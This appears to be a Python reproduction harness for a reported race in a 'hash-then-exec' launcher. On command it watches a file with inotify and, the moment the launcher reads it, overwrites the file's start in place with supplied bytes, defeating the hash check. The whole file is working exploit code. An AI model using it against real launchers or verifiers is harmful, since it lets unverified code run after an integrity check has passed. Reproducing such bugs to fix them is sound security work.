"""The hash-then-exec racer of issue 14: waits for the launcher's read of a file
(inotify IN_ACCESS) and then patches the file in place.

Usage: inotify_racer.py FILE PATCH. For each line `arm` on stdin it watches FILE, prints
`armed`, waits for an IN_ACCESS, writes the bytes of PATCH over the start of FILE (same
inode, no truncation) and prints `patched`. Runs as the user who can write FILE.
"""
import ctypes
import os
import struct
import sys

IN_ACCESS = 0x00000001
EVENT = struct.Struct("iIII")  # wd, mask, cookie, len; then len bytes of name
libc = ctypes.CDLL(None, use_errno=True)


def accessed(buf: bytes) -> bool:
    """Whether a read of inotify events holds an IN_ACCESS."""
    at = 0
    while at < len(buf):
        _, mask, _, length = EVENT.unpack_from(buf, at)
        if mask & IN_ACCESS:
            return True
        at += EVENT.size + length
    return False


def main() -> None:
    target, patch_path = sys.argv[1], sys.argv[2]
    with open(patch_path, "rb") as f:
        patch = f.read()
    fd = libc.inotify_init1(os.O_CLOEXEC)
    if fd < 0:
        sys.exit(f"inotify_init1: {os.strerror(ctypes.get_errno())}")
    for line in sys.stdin:
        if line.strip() != "arm":
            continue
        wd = libc.inotify_add_watch(fd, target.encode(), IN_ACCESS)
        if wd < 0:
            sys.exit(f"inotify_add_watch: {os.strerror(ctypes.get_errno())}")
        print("armed", flush=True)
        while not accessed(os.read(fd, 4096)):
            pass
        out = os.open(target, os.O_WRONLY)
        os.pwrite(out, patch, 0)
        os.close(out)
        libc.inotify_rm_watch(fd, wd)
        print("patched", flush=True)


main()
